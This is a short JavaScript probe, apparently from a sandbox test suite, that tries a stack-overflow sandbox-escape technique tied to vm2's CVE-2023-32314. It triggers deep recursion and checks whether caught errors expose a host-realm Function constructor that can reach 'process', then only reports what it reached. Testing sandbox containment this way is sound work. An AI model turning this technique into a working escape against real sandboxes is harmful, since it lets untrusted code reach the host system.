// Tries: errors of the platform where the stack is full when it is called (vm2, CVE-2023-32314; isolated-vm)
// Contained by: nothing, throw, time
const reached = []
/** Whether a value is of another realm, or leads to one. */
function look(name, value) {
  if (value === null || (typeof value !== 'object' && typeof value !== 'function')) return
  try {
    const make = value.constructor.constructor
    if (make !== Function) reached.push(`${name}: another realm`)
    if (make('return typeof process')() !== 'undefined') reached.push(`${name}: process`)
  } catch {}
}
function attack() {
  const calls = [() => require('nothing'), () => console.log('x'), () => require('integrator-api').jobs.get('x'), () => JSON.parse('[]'), () => new Error('x').stack]
  for (const act of calls) {
    let caught = 0
    const deep = () => {
      try {
        deep()
      } catch (error) {
        look('an overflow', error)
        if (++caught > 20) throw error
        try {
          act()
        } catch (other) {
          look('in an overflow', other)
          throw other
        }
      }
    }
    try {
      deep()
    } catch (error) {
      look('behind an overflow', error)
    }
  }
  return reached.length > 0 ? reached : 'nothing'
}
